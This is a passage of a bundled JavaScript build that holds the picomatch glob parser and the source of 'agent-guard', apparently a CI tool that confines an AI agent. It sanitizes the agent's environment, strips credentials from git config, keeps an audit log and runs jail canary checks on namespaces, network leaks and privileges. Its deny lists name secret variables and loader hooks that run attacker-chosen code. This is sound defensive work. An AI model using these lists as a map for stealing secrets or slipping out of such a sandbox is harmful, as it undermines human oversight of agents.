          if (opts.nonegate !== true && state.index === 0) {
            negate();
            continue;
          }
        }
        if (value === "+") {
          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
            extglobOpen("plus", value);
            continue;
          }
          if (prev && prev.value === "(" || opts.regex === false) {
            push({ type: "plus", value, output: PLUS_LITERAL });
            continue;
          }
          if (prev && (prev.type === "bracket" || prev.type === "paren" || prev.type === "brace") || state.parens > 0) {
            push({ type: "plus", value });
            continue;
          }
          push({ type: "plus", value: PLUS_LITERAL });
          continue;
        }
        if (value === "@") {
          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
            push({ type: "at", extglob: true, value, output: "" });
            continue;
          }
          push({ type: "text", value });
          continue;
        }
        if (value !== "*") {
          if (value === "$" || value === "^") {
            value = `\\${value}`;
          }
          const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
          if (match) {
            value += match[0];
            state.index += match[0].length;
          }
          push({ type: "text", value });
          continue;
        }
        if (prev && (prev.type === "globstar" || prev.star === true)) {
          prev.type = "star";
          prev.star = true;
          prev.value += value;
          prev.output = star;
          state.backtrack = true;
          state.globstar = true;
          consume(value);
          continue;
        }
        let rest = remaining();
        if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
          extglobOpen("star", value);
          continue;
        }
        if (prev.type === "star") {
          if (opts.noglobstar === true) {
            consume(value);
            continue;
          }
          const prior = prev.prev;
          const before = prior.prev;
          const isStart = prior.type === "slash" || prior.type === "bos";
          const afterStar = before && (before.type === "star" || before.type === "globstar");
          if (opts.bash === true && (!isStart || rest[0] && rest[0] !== "/")) {
            push({ type: "star", value, output: "" });
            continue;
          }
          const isBrace = state.braces > 0 && (prior.type === "comma" || prior.type === "brace");
          const isExtglob = extglobs.length && (prior.type === "pipe" || prior.type === "paren");
          if (!isStart && prior.type !== "paren" && !isBrace && !isExtglob) {
            push({ type: "star", value, output: "" });
            continue;
          }
          while (rest.slice(0, 3) === "/**") {
            const after = input[state.index + 4];
            if (after && after !== "/") {
              break;
            }
            rest = rest.slice(3);
            consume("/**", 3);
          }
          const isEnd = eos() || state.parens > 0 && rest === ")".repeat(state.parens) && !extglobs.some((extglob) => extglob.type === "negate");
          if (prior.type === "bos" && eos()) {
            prev.type = "globstar";
            prev.value += value;
            prev.output = globstar(opts);
            state.output = prev.output;
            state.globstar = true;
            consume(value);
            continue;
          }
          if (prior.type === "slash" && prior.prev.type !== "bos" && !afterStar && isEnd) {
            state.output = state.output.slice(0, -(prior.output + prev.output).length);
            prior.output = `(?:${prior.output}`;
            prev.type = "globstar";
            prev.output = globstar(opts) + (opts.strictSlashes ? ")" : "|$)");
            prev.value += value;
            state.globstar = true;
            state.output += prior.output + prev.output;
            consume(value);
            continue;
          }
          if (prior.type === "slash" && prior.prev.type !== "bos" && rest[0] === "/") {
            const end = rest[1] !== void 0 ? "|$" : "";
            state.output = state.output.slice(0, -(prior.output + prev.output).length);
            prior.output = `(?:${prior.output}`;
            prev.type = "globstar";
            prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
            prev.value += value;
            state.output += prior.output + prev.output;
            state.globstar = true;
            consume(value + advance());
            push({ type: "slash", value: "/", output: "" });
            continue;
          }
          if (prior.type === "bos" && rest[0] === "/") {
            prev.type = "globstar";
            prev.value += value;
            prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
            state.output = prev.output;
            state.globstar = true;
            consume(value + advance());
            push({ type: "slash", value: "/", output: "" });
            continue;
          }
          state.output = state.output.slice(0, -prev.output.length);
          prev.type = "globstar";
          prev.output = globstar(opts);
          prev.value += value;
          state.output += prev.output;
          state.globstar = true;
          consume(value);
          continue;
        }
        const token = { type: "star", value, output: star };
        if (opts.bash === true) {
          token.output = ".*?";
          if (prev.type === "bos" || prev.type === "slash") {
            token.output = nodot + token.output;
          }
          push(token);
          continue;
        }
        if (prev && (prev.type === "bracket" || prev.type === "paren") && opts.regex === true) {
          token.output = value;
          push(token);
          continue;
        }
        if (state.index === state.start || prev.type === "slash" || prev.type === "dot") {
          if (prev.type === "dot") {
            state.output += NO_DOT_SLASH;
            prev.output += NO_DOT_SLASH;
          } else if (opts.dot === true) {
            state.output += NO_DOTS_SLASH;
            prev.output += NO_DOTS_SLASH;
          } else {
            state.output += nodot;
            prev.output += nodot;
          }
          if (peek() !== "*") {
            state.output += ONE_CHAR;
            prev.output += ONE_CHAR;
          }
        }
        push(token);
      }
      while (state.brackets > 0) {
        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "]"));
        state.output = utils.escapeLast(state.output, "[");
        decrement("brackets");
      }
      while (state.parens > 0) {
        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", ")"));
        state.output = utils.escapeLast(state.output, "(");
        decrement("parens");
      }
      while (state.braces > 0) {
        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "}"));
        state.output = utils.escapeLast(state.output, "{");
        decrement("braces");
      }
      if (opts.strictSlashes !== true && (prev.type === "star" || prev.type === "bracket")) {
        push({ type: "maybe_slash", value: "", output: `${SLASH_LITERAL}?` });
      }
      if (state.backtrack === true) {
        state.output = "";
        for (const token of state.tokens) {
          state.output += token.output != null ? token.output : token.value;
          if (token.suffix) {
            state.output += token.suffix;
          }
        }
      }
      return state;
    };
    parse2.fastpaths = (input, options) => {
      const opts = { ...options };
      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
      const len = input.length;
      if (len > max) {
        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
      }
      input = REPLACEMENTS[input] || input;
      const {
        DOT_LITERAL,
        SLASH_LITERAL,
        ONE_CHAR,
        DOTS_SLASH,
        NO_DOT,
        NO_DOTS,
        NO_DOTS_SLASH,
        STAR,
        START_ANCHOR
      } = constants.globChars(opts.windows);
      const nodot = opts.dot ? NO_DOTS : NO_DOT;
      const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
      const capture = opts.capture ? "" : "?:";
      const state = { negated: false, prefix: "" };
      let star = opts.bash === true ? ".*?" : STAR;
      if (opts.capture) {
        star = `(${star})`;
      }
      const globstar = (opts2) => {
        if (opts2.noglobstar === true) return star;
        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
      };
      const create = (str3) => {
        switch (str3) {
          case "*":
            return `${nodot}${ONE_CHAR}${star}`;
          case ".*":
            return `${DOT_LITERAL}${ONE_CHAR}${star}`;
          case "*.*":
            return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
          case "*/*":
            return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;
          case "**":
            return nodot + globstar(opts);
          case "**/*":
            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;
          case "**/*.*":
            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
          case "**/.*":
            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
          default: {
            const match = /^(.*?)\.(\w+)$/.exec(str3);
            if (!match) return;
            const source2 = create(match[1]);
            if (!source2) return;
            return source2 + DOT_LITERAL + match[2];
          }
        }
      };
      const output = utils.removePrefix(input, state);
      let source = create(output);
      if (source && opts.strictSlashes !== true) {
        source += `${SLASH_LITERAL}?`;
      }
      return source;
    };
    module2.exports = parse2;
  }
});

// node_modules/picomatch/lib/picomatch.js
var require_picomatch = __commonJS({
  "node_modules/picomatch/lib/picomatch.js"(exports2, module2) {
    "use strict";
    var scan = require_scan();
    var parse2 = require_parse();
    var utils = require_utils();
    var constants = require_constants();
    var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
    var picomatch2 = (glob, options, returnState = false) => {
      if (Array.isArray(glob)) {
        const fns = glob.map((input) => picomatch2(input, options, returnState));
        const arrayMatcher = (str3) => {
          for (const isMatch of fns) {
            const state2 = isMatch(str3);
            if (state2) return state2;
          }
          return false;
        };
        return arrayMatcher;
      }
      const isState = isObject(glob) && glob.tokens && glob.input;
      if (glob === "" || typeof glob !== "string" && !isState) {
        throw new TypeError("Expected pattern to be a non-empty string");
      }
      const opts = options || {};
      const posix = opts.windows;
      const regex = isState ? picomatch2.compileRe(glob, options) : picomatch2.makeRe(glob, options, false, true);
      const state = regex.state;
      delete regex.state;
      let isIgnored = () => false;
      if (opts.ignore) {
        const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
        isIgnored = picomatch2(opts.ignore, ignoreOpts, returnState);
      }
      const matcher = (input, returnObject = false) => {
        const { isMatch, match, output } = picomatch2.test(input, regex, options, { glob, posix });
        const result = { glob, state, regex, posix, input, output, match, isMatch };
        if (typeof opts.onResult === "function") {
          opts.onResult(result);
        }
        if (isMatch === false) {
          result.isMatch = false;
          return returnObject ? result : false;
        }
        if (isIgnored(input)) {
          if (typeof opts.onIgnore === "function") {
            opts.onIgnore(result);
          }
          result.isMatch = false;
          return returnObject ? result : false;
        }
        if (typeof opts.onMatch === "function") {
          opts.onMatch(result);
        }
        return returnObject ? result : true;
      };
      if (returnState) {
        matcher.state = state;
      }
      return matcher;
    };
    picomatch2.test = (input, regex, options, { glob, posix } = {}) => {
      if (typeof input !== "string") {
        throw new TypeError("Expected input to be a string");
      }
      if (input === "") {
        return { isMatch: false, output: "" };
      }
      const opts = options || {};
      const format = opts.format || (posix ? utils.toPosixSlashes : null);
      let match = input === glob;
      let output = match && format ? format(input) : input;
      if (match === false) {
        output = format ? format(input) : input;
        match = output === glob;
      }
      if (match === false || opts.capture === true) {
        if (opts.matchBase === true || opts.basename === true) {
          match = picomatch2.matchBase(input, regex, options, posix);
        } else {
          match = regex.exec(output);
        }
      }
      return { isMatch: Boolean(match), match, output };
    };
    picomatch2.matchBase = (input, glob, options, posix = options && options.windows) => {
      const regex = glob instanceof RegExp ? glob : picomatch2.makeRe(glob, options);
      return regex.test(utils.basename(input, { windows: posix }));
    };
    picomatch2.isMatch = (str3, patterns, options) => picomatch2(patterns, options)(str3);
    picomatch2.parse = (pattern, options) => {
      if (Array.isArray(pattern)) return pattern.map((p) => picomatch2.parse(p, options));
      return parse2(pattern, { ...options, fastpaths: false });
    };
    picomatch2.scan = (input, options) => scan(input, options);
    picomatch2.compileRe = (state, options, returnOutput = false, returnState = false) => {
      if (returnOutput === true) {
        return state.output;
      }
      const opts = options || {};
      const prepend = opts.contains ? "" : "^";
      const append = opts.contains ? "" : "$";
      let source = `${prepend}(?:${state.output})${append}`;
      if (state && state.negated === true) {
        source = `^(?!${source}).*$`;
      }
      const regex = picomatch2.toRegex(source, options);
      if (returnState === true) {
        regex.state = state;
      }
      return regex;
    };
    picomatch2.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
      if (!input || typeof input !== "string") {
        throw new TypeError("Expected a non-empty string");
      }
      let parsed = { negated: false, fastpaths: true };
      if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
        parsed.output = parse2.fastpaths(input, options);
      }
      if (!parsed.output) {
        parsed = parse2(input, options);
      }
      return picomatch2.compileRe(parsed, options, returnOutput, returnState);
    };
    picomatch2.toRegex = (source, options) => {
      try {
        const opts = options || {};
        return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
      } catch (err) {
        if (options && options.debug === true) throw err;
        return /$^/;
      }
    };
    picomatch2.constants = constants;
    module2.exports = picomatch2;
  }
});

// node_modules/picomatch/index.js
var require_picomatch2 = __commonJS({
  "node_modules/picomatch/index.js"(exports2, module2) {
    "use strict";
    var pico = require_picomatch();
    var utils = require_utils();
    function picomatch2(glob, options, returnState = false) {
      if (options && (options.windows === null || options.windows === void 0)) {
        options = { ...options, windows: utils.isWindows() };
      }
      return pico(glob, options, returnState);
    }
    Object.assign(picomatch2, pico);
    module2.exports = picomatch2;
  }
});

// src/guard/audit.ts
function escapeCell(text) {
  return text.replace(/[|\\`<>\r\n]/g, (c) => c === "\n" || c === "\r" ? " " : `\\${c}`).slice(0, 200);
}
var import_node_fs7, AuditLog;
var init_audit = __esm({
  "src/guard/audit.ts"() {
    "use strict";
    import_node_fs7 = __toESM(require("node:fs"));
    AuditLog = class {
      records = [];
      fd;
      constructor(file) {
        if (file) this.fd = import_node_fs7.default.openSync(file, "a", 384);
      }
      add(record) {
        this.records.push(record);
        if (this.fd !== void 0) import_node_fs7.default.writeSync(this.fd, JSON.stringify(record) + "\n");
      }
      close() {
        if (this.fd !== void 0) import_node_fs7.default.closeSync(this.fd);
        this.fd = void 0;
      }
      totals() {
        let forwarded = 0;
        let refused = 0;
        let inputTokens = 0;
        let outputTokens = 0;
        let bytes2 = 0;
        for (const r of this.records) {
          if (r.refused) refused++;
          else forwarded++;
          inputTokens += r.inputTokens ?? 0;
          outputTokens += r.outputTokens ?? 0;
          bytes2 += r.requestBytes + r.responseBytes;
        }
        return { requests: this.records.length, forwarded, refused, inputTokens, outputTokens, bytes: bytes2 };
      }
      summaryLine(exitCode) {
        const t = this.totals();
        return `agent-guard: agent exited ${exitCode}; ${t.forwarded} request(s) forwarded, ${t.refused} refused, ${t.inputTokens} input + ${t.outputTokens} output tokens`;
      }
      stepSummaryMarkdown(exitCode) {
        const t = this.totals();
        const rows = this.records.map(
          (r) => `| ${r.kind} | ${escapeCell(r.provider ?? "")} | ${escapeCell(`${r.method ?? ""} ${r.route}`.trim())} | ${r.status} | ${r.requestBytes}/${r.responseBytes} | ${(r.inputTokens ?? 0) + (r.outputTokens ?? 0)} | ${escapeCell(r.refused ?? "")} |`
        );
        return [
          "### agent-guard",
          "",
          `Agent exit code ${exitCode}. ${t.forwarded} request(s) forwarded, ${t.refused} refused, ${t.inputTokens} input and ${t.outputTokens} output tokens.`,
          "",
          "| kind | provider | route | status | bytes in/out | tokens | refused because |",
          "| --- | --- | --- | --- | --- | --- | --- |",
          ...rows.slice(0, 500),
          rows.length > 500 ? `
(${rows.length - 500} more in the audit file)` : "",
          ""
        ].join("\n");
      }
    };
  }
});

// src/guard/errors.ts
var GuardError, GUARD_FAILURE_EXIT;
var init_errors = __esm({
  "src/guard/errors.ts"() {
    "use strict";
    GuardError = class extends Error {
      constructor(layer, message) {
        super(message);
        this.layer = layer;
        this.name = "GuardError";
      }
      layer;
    };
    GUARD_FAILURE_EXIT = 125;
  }
});

// src/guard/env.ts
function isForbiddenName(name) {
  return FORBIDDEN_NAMES.has(name) || FORBIDDEN_PREFIXES.some((p) => name.startsWith(p));
}
function knownSecrets(hostEnv, providerKeys) {
  const out = /* @__PURE__ */ new Set();
  for (const key2 of providerKeys) if (key2.length >= MIN_SECRET_LENGTH) out.add(key2);
  for (const [name, value] of Object.entries(hostEnv)) {
    if (!value || value.length < MIN_SECRET_LENGTH) continue;
    if (SECRET_NAME.test(name) || name.startsWith("ACTIONS_") || name.startsWith("INPUT_")) out.add(value);
  }
  return [...out];
}
function sanitizePath(path14) {
  const entries = (path14 ?? "").split(":").filter((p) => p.startsWith("/"));
  for (const must of ["/usr/local/bin", "/usr/bin", "/bin"]) if (!entries.includes(must)) entries.push(must);
  return entries.join(":");
}
function buildAgentEnv(input) {
  const { hostEnv, secrets } = input;
  const providerOwned = new Set(input.providers.flatMap(({ provider }) => [...provider.removeEnv, ...provider.keys.map((k) => k.env)]));
  for (const name of input.passEnv) {
    if (isForbiddenName(name)) throw new GuardError("environment", `--pass-env ${name}: this variable is never passed to the agent`);
    if (providerOwned.has(name)) throw new GuardError("environment", `--pass-env ${name}: the provider proxy holds this credential; the agent gets a placeholder`);
  }
  const env = {};
  for (const [name, value] of Object.entries(hostEnv)) {
    if (value === void 0) continue;
    if (ALLOWED_NAMES.has(name) || ALLOWED_PREFIXES.some((p) => name.startsWith(p))) env[name] = value;
  }
  for (const name of input.passEnv) if (hostEnv[name] !== void 0) env[name] = hostEnv[name];
  env.PATH = sanitizePath(env.PATH);
  env.HOME = AGENT_HOME;
  env.USER = "agent";
  env.LOGNAME = "agent";
  env.TMPDIR = "/tmp";
  env.CI = env.CI ?? "true";
  const droppedForSecret = [];
  for (const [name, value] of Object.entries(env)) {
    if (secrets.some((s) => value.includes(s))) {
      delete env[name];
      droppedForSecret.push(name);
    }
  }
  const claimed = /* @__PURE__ */ new Map();
  for (const { provider, base } of input.providers) {
    for (const [name, template] of Object.entries(provider.agentEnv)) {
      const value = template.replace(/\{base\}/g, base).replace(/\{placeholder\}/g, provider.placeholder);
      const owner = claimed.get(name);
      if (owner !== void 0 && env[name] !== value) {
        throw new GuardError("providers", `providers ${owner} and ${provider.name} both set ${name}; pick one`);
      }
      claimed.set(name, provider.name);
      env[name] = value;
    }
  }
  if (input.egressUrl) {
    for (const name of ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"]) env[name] = input.egressUrl;
    env.NO_PROXY = env.no_proxy = "127.0.0.1,localhost,::1";
  }
  return { env, droppedForSecret };
}
var AGENT_HOME, ALLOWED_NAMES, ALLOWED_PREFIXES, FORBIDDEN_NAMES, FORBIDDEN_PREFIXES, SECRET_NAME, MIN_SECRET_LENGTH;
var init_env = __esm({
  "src/guard/env.ts"() {
    "use strict";
    init_errors();
    AGENT_HOME = "/home/agent";
    ALLOWED_NAMES = /* @__PURE__ */ new Set([
      "PATH",
      "LANG",
      "LANGUAGE",
      "TERM",
      "TZ",
      "COLORTERM",
      "NO_COLOR",
      "FORCE_COLOR",
      "CI",
      "GITHUB_ACTIONS",
      "GITHUB_REPOSITORY",
      "GITHUB_REPOSITORY_ID",
      "GITHUB_REPOSITORY_OWNER",
      "GITHUB_REPOSITORY_OWNER_ID",
      "GITHUB_REF",
      "GITHUB_REF_NAME",
      "GITHUB_REF_TYPE",
      "GITHUB_REF_PROTECTED",
      "GITHUB_SHA",
      "GITHUB_HEAD_REF",
      "GITHUB_BASE_REF",
      "GITHUB_EVENT_NAME",
      "GITHUB_WORKSPACE",
      "GITHUB_SERVER_URL",
      "GITHUB_API_URL",
      "GITHUB_GRAPHQL_URL",
      "GITHUB_RUN_ID",
      "GITHUB_RUN_NUMBER",
      "GITHUB_RUN_ATTEMPT",
      "GITHUB_WORKFLOW",
      "GITHUB_WORKFLOW_REF",
      "GITHUB_WORKFLOW_SHA",
      "GITHUB_JOB",
      "GITHUB_ACTOR",
      "GITHUB_ACTOR_ID",
      "GITHUB_TRIGGERING_ACTOR",
      "GITHUB_RETENTION_DAYS",
      "RUNNER_OS",
      "RUNNER_ARCH",
      "RUNNER_ENVIRONMENT"
    ]);
    ALLOWED_PREFIXES = ["LC_"];
    FORBIDDEN_NAMES = /* @__PURE__ */ new Set([
      "GITHUB_TOKEN",
      "GH_TOKEN",
      "GH_ENTERPRISE_TOKEN",
      "GITHUB_ENV",
      "GITHUB_PATH",
      "GITHUB_OUTPUT",
      "GITHUB_STATE",
      "GITHUB_STEP_SUMMARY",
      "GITHUB_EVENT_PATH",
      "RUNNER_TEMP",
      "RUNNER_TRACKING_ID",
      // Loaders and startup hooks: each one runs attacker-chosen code in a process that trusts it.
      "NODE_OPTIONS",
      "NODE_PATH",
      "NODE_EXTRA_CA_CERTS",
      "BASH_ENV",
      "ENV",
      "PROMPT_COMMAND",
      "PYTHONSTARTUP",
      "PYTHONPATH",
      "PYTHONHOME",
      "PERL5OPT",
      "PERL5LIB",
      "PERLLIB",
      "RUBYOPT",
      "RUBYLIB",
      "JAVA_TOOL_OPTIONS",
      "_JAVA_OPTIONS",
      "JDK_JAVA_OPTIONS",
      "GCONV_PATH",
      "GIT_SSH_COMMAND",
      "GIT_ASKPASS",
      "SSH_ASKPASS",
      "SSH_AUTH_SOCK",
      "DOCKER_HOST",
      "HOME",
      "USER",
      "LOGNAME",
      "TMPDIR",
      "HTTP_PROXY",
      "HTTPS_PROXY",
      "ALL_PROXY",
      "NO_PROXY",
      "http_proxy",
      "https_proxy",
      "all_proxy",
      "no_proxy"
    ]);
    FORBIDDEN_PREFIXES = ["ACTIONS_", "INPUT_", "LD_", "DYLD_", "GIT_CONFIG", "STATE_", "AGENT_GUARD_"];
    SECRET_NAME = /(TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|PRIVATE|API_?KEY|ACCESS_?KEY|AUTH)/i;
    MIN_SECRET_LENGTH = 8;
  }
});

// src/guard/gitConfig.ts
function sectionIsDropped(name) {
  const lower = name.toLowerCase();
  return lower === "credential" || lower === "include" || lower === "includeif";
}
function keyOf(line) {
  const m = /^\s*([A-Za-z][A-Za-z0-9-]*)\s*(=|$)/.exec(line);
  return m ? m[1].toLowerCase() : "";
}
function sanitizeGitConfig(text, secrets = []) {
  const out = [];
  let dropSection = false;
  let section = "";
  let continuing = false;
  let dropContinuation = false;
  for (const rawLine of text.split("\n")) {
    const line = rawLine.replace(/\r$/, "");
    if (continuing) {
      continuing = /\\$/.test(line);
      if (!dropContinuation) out.push(line);
      continue;
    }
    const sec = SECTION.exec(line);
    if (sec) {
      section = sec[1].toLowerCase();
      dropSection = sectionIsDropped(sec[1]);
      if (!dropSection) out.push(sec[3] ? line.slice(0, line.length - sec[3].length) : line);
      if (sec[3] && !dropSection && !isDroppedKey(section, sec[3], secrets)) out.push(sec[3]);
      continue;
    }
    continuing = /\\$/.test(line);
    const drop = dropSection || isDroppedKey(section, line, secrets);
    dropContinuation = drop;
    if (!drop) out.push(stripUserinfo(line));
  }
  return out.join("\n");
}
function isDroppedKey(section, line, secrets) {
  const key2 = keyOf(line);
  if (key2 === "extraheader") return true;
  if (section === "http" && (key2 === "cookiefile" || key2 === "proxyauthmethod")) return true;
  if (section === "core" && (key2 === "askpass" || key2 === "sshcommand" || key2 === "fsmonitor")) return true;
  return secrets.some((s) => line.includes(s));
}
function stripUserinfo(line) {
  return line.replace(/([a-z][a-z0-9+.-]*:\/\/)[^/@\s"]+@/gi, "$1");
}
var SECTION;
var init_gitConfig = __esm({
  "src/guard/gitConfig.ts"() {
    "use strict";
    SECTION = /^\s*\[\s*([A-Za-z0-9.-]+)(?:\s+"((?:[^"\\]|\\.)*)")?\s*\]\s*(.*)$/;
  }
});

// src/guard/jailInit.ts
function jailInitMain() {
  const fs17 = require("node:fs");
  const net3 = require("node:net");
  const os6 = require("node:os");
  const dgram = require("node:dgram");
  const childProcess = require("node:child_process");
  const config = JSON.parse(fs17.readFileSync(process.argv[2], "utf8"));
  const say = (status) => fs17.writeSync(2, `AGENT_GUARD_INIT ${config.nonce} ${status}
`);
  const fail2 = (reason) => {
    say(`fail ${reason.replace(/[\r\n]/g, " ")}`);
    process.exit(125);
  };
  const tryConnect = (host, port) => new Promise((resolve3) => {
    const socket = net3.connect({ host, port });
    const timer = setTimeout(() => {
      socket.destroy();
      resolve3(void 0);
    }, 1500);
    socket.once("connect", () => {
      clearTimeout(timer);
      socket.destroy();
      resolve3(`${host}:${port} is reachable`);
    });
    socket.once("error", () => {
      clearTimeout(timer);
      resolve3(void 0);
    });
  });
  const tryUdp = (host, port, family) => new Promise((resolve3) => {
    const socket = dgram.createSocket(family);
    socket.once("error", () => {
      socket.close();
      resolve3(void 0);
    });
    socket.send(Buffer.from("agent-guard canary"), port, host, (err) => {
      socket.close();
      resolve3(err ? void 0 : `UDP to ${host}:${port} could be sent`);
    });
  });
  const canary = async () => {
    const c = config.canary;
    for (const [ns, hostId] of Object.entries(c.hostNamespaces)) {
      if (fs17.readlinkSync(`/proc/self/ns/${ns}`) === hostId) fail2(`canary: the ${ns} namespace is the host's`);
    }
    const interfaces = Object.keys(os6.networkInterfaces());
    if (interfaces.some((name) => name !== "lo")) fail2(`canary: network interfaces other than loopback: ${interfaces.join(", ")}`);
    const status = fs17.readFileSync("/proc/self/status", "utf8");
    if (!/^NoNewPrivs:\s*1$/m.test(status)) fail2("canary: no_new_privs is not set");
    for (const path14 of c.mustNotExist) {
      let exists = true;
      try {
        fs17.lstatSync(path14);
      } catch {
        exists = false;
      }
      if (exists) fail2(`canary: ${path14} is visible in the jail`);
    }
    for (const dir of c.mustBeEmpty) {
      let entries = [];
      try {
        entries = fs17.readdirSync(dir).filter((e) => !(dir === "/run" && c.allowedInRun.includes(e)));
      } catch {
        entries = [];
      }
      if (entries.length > 0) fail2(`canary: ${dir} is not masked (has ${entries.slice(0, 3).join(", ")})`);
    }
    const reached = await Promise.all([
      tryConnect("1.1.1.1", 443),
      tryConnect("8.8.8.8", 53),
      tryConnect("2606:4700:4700::1111", 443),
      tryConnect("127.0.0.53", 53),
      tryConnect("127.0.0.1", c.hostLoopbackPort),
      tryConnect("::1", c.hostLoopbackPort),
      tryUdp("8.8.8.8", 53, "udp4"),
      tryUdp("2001:4860:4860::8888", 53, "udp6")
    ]);
    const leak = reached.find((r) => r !== void 0);
    if (leak) fail2(`canary: ${leak}`);
  };
  const startBridges = async () => {
    for (const bridge of config.bridges) {
      const server = net3.createServer((inside) => {
        inside.setNoDelay(true);
        const outside = net3.connect(bridge.socket);
        const closeBoth = () => {
          inside.destroy();
          outside.destroy();
        };
        inside.on("error", closeBoth);
        outside.on("error", closeBoth);
        inside.pipe(outside);
        outside.pipe(inside);
      });
      await new Promise((resolve3, reject) => {
        server.once("error", reject);
        server.listen(bridge.port, "127.0.0.1", () => resolve3());
      }).catch((err) => fail2(`bridge: cannot listen on 127.0.0.1:${bridge.port}: ${err.message}`));
      const v6 = net3.createServer((inside) => server.emit("connection", inside));
      v6.on("error", () => v6.close());
      v6.listen(bridge.port, "::1");
    }
  };
  const main2 = async () => {
    try {
      fs17.mkdirSync(config.home, { recursive: true, mode: 448 });
      const handOver = [];
      for (const file2 of config.homeFiles) {
        const parts = file2.path.split("/").slice(0, -1);
        for (let i = 1; i <= parts.length; i++) {
          const dir = `${config.home}/${parts.slice(0, i).join("/")}`;
          if (!fs17.existsSync(dir)) {
            fs17.mkdirSync(dir, { mode: 448 });
            handOver.push(dir);
          }
        }
        const target = `${config.home}/${file2.path}`;
        fs17.writeFileSync(target, file2.content, { mode: 384 });
        handOver.push(target);
      }
      for (const p of [...handOver, config.home]) fs17.chownSync(p, config.agentUid, config.agentGid);
    } catch (err) {
      fail2(`home: cannot prepare ${config.home}: ${err.message}`);
    }
    await canary();
    await startBridges();
    if (config.lifeline) {
      const lifeline = net3.connect(config.lifeline);
      lifeline.on("error", () => process.exit(125));
      lifeline.on("close", () => process.exit(125));
      lifeline.unref();
    }
    say("ok");
    const [file, ...args] = config.command;
    const child = config.setpriv ? childProcess.spawn(
      config.setpriv,
      [
        `--reuid=${config.agentUid}`,
        `--regid=${config.agentGid}`,
        "--clear-groups",
        "--bounding-set=-all",
        "--inh-caps=-all",
        "--no-new-privs",
        "--",
        file,
        ...args
      ],
      { env: config.env, cwd: config.cwd, stdio: "inherit" }
    ) : childProcess.spawn(file, args, { env: config.env, cwd: config.cwd, stdio: "inherit", uid: config.agentUid, gid: config.agentGid });
    child.on("error", (err) => {
      fs17.writeSync(2, `agent-guard: cannot start ${file}: ${err.message}
`);
      process.exit(err.code === "ENOENT" ? 127 : 126);
    });
    process.setgroups([]);
    process.setgid(config.bridgeGid);
    process.setuid(config.bridgeUid);
    child.on("exit", (code3, signal) => {
      const signals = os6.constants.signals;
      process.exit(code3 ?? 128 + (signal ? signals[signal] ?? 1 : 1));
    });
  };
  main2().catch((err) => fail2(`init: ${err.message}`));
}
function jailInitSource() {
  return `(${jailInitMain.toString()})();
`;
}
var init_jailInit = __esm({
  "src/guard/jailInit.ts"() {
    "use strict";
  }
});

// src/guard/jail.ts
function findExecutable(name, searchPath) {
  if (name.includes("/")) return import_node_fs8.default.existsSync(name) ? import_node_path5.default.resolve(name) : void 0;
  for (const dir of (searchPath ?? "").split(":")) {
    if (!dir.startsWith("/")) continue;
    const candidate = import_node_path5.default.join(dir, name);
    try {
      import_node_fs8.default.accessSync(candidate, import_node_fs8.default.constants.X_OK);
      if (import_node_fs8.default.statSync(candidate).isFile()) return candidate;
    } catch {
    }
  }
  return void 0;
}
function isWithin(child, parent) {
  const rel = import_node_path5.default.relative(parent, child);
  return rel === "" || !rel.startsWith("..") && !import_node_path5.default.isAbsolute(rel);
}
function realDir(p) {
  if (!p) return void 0;
  try {
    const real = import_node_fs8.default.realpathSync(p);
    return import_node_fs8.default.statSync(real).isDirectory() ? real : void 0;
  } catch {
    return void 0;
  }
}
function findRunnerRoot() {
  let pid = process.ppid;
  for (let i = 0; i < 32 && pid > 1; i++) {
    try {
      const exe = import_node_fs8.default.readlinkSync(`/proc/${pid}/exe`);
      if (/\/Runner\.(Worker|Listener)$/.test(exe)) return import_node_path5.default.dirname(import_node_path5.default.dirname(exe));
    } catch {
    }
    try {
      const stat = import_node_fs8.default.readFileSync(`/proc/${pid}/stat`, "utf8");
      pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
    } catch {
      break;
    }
  }
  return void 0;
}
function maskedDirectories(facts) {
  const candidates = [
    "/tmp",
    "/var/tmp",
    "/run",
    "/var/run",
    "/home",
    "/root",
    facts.home,
    facts.env.RUNNER_TEMP,
    facts.env.RUNNER_TEMP ? import_node_path5.default.join(import_node_path5.default.dirname(facts.env.RUNNER_TEMP), "_actions") : void 0,
    findRunnerRoot(),
    "/var/lib/docker",
    "/var/lib/containers",
    "/etc/sudoers.d"
  ];
  const out = [];
  for (const candidate of candidates) {
    if (!candidate) continue;
    let stat;
    try {
      stat = import_node_fs8.default.lstatSync(candidate);
    } catch {
      continue;
    }
    if (stat.isSymbolicLink() || !stat.isDirectory()) continue;
    const real = import_node_fs8.default.realpathSync(candidate);
    if (out.some((m) => isWithin(real, m))) continue;
    out.push(real);
  }
  return out;
}
function hostUnixSockets() {
  let text = "";
  try {
